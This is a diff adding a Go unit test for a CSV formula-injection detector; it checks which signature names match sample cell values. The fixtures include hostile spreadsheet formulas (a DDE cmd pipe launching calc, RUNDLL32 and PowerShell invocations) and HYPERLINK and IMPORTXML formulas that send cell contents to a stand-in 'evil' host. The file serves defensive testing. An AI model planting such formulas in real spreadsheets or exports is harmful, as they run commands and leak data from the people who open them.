@@ -0,0 +1,47 @@
+package csv
+
+import (
+	"regexp"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestSignatureSet(t *testing.T) {
+	is := assert.New(t)
+
+	set := DefaultSignatures()
+	for field, expected := range map[string]string{
+		"=cmd|' /C calc'!A0":                           "cmd-pipe",
+		`@MSEXCEL|'\..\..\Windows\System32\x'`:         "msexcel-pipe",
+		"=RUNDLL32|'URL.dll,OpenURL x'!A":              "rundll32",
+		"rundll32.exe shell32.dll":                     "rundll32",
+		"+PowerShell -enc AAAA":                        "powershell",
+		`=DDEAUTO("x")`:                                "dde",
+		`=HYPERLINK("http://evil/?"&A1,"x")`:           "hyperlink",
+		`=IMPORTXML(CONCAT("http://evil/?",A1),"//a")`: "import-function",
+		"='[book.xlsx]Sheet1'!A1":                      "external-workbook",
+		"=[prices.csv]prices!B2":                       "external-workbook",
+		"hello":                                        "",
+		"[draft] see notes!":                           "",
+		"command|pipe":                                 "",
+	} {
+		name, ok := set.Match(field)
+		is.Equal(expected, name, field)
+		is.Equal(expected != "", ok, field)
+	}
+
+	set.AddLiteral("mycorp", "MyCorp.Run(")
+	set.Add("xlm", regexp.MustCompile(`(?i)\bEXEC\(`))
+	name, _ := set.Match("=mycorp.run(1)")
+	is.Equal("mycorp", name)
+	name, _ = set.Match("=EXEC(x)")
+	is.Equal("xlm", name)
+
+	_, ok := DefaultSignatures().Match("=mycorp.run(1)")
+	is.False(ok)
+	is.Len(set.Signatures(), len(DefaultSignatures().Signatures())+2)
+
+	_, ok = NewSignatureSet().Match("=cmd|x")
+	is.False(ok)
+}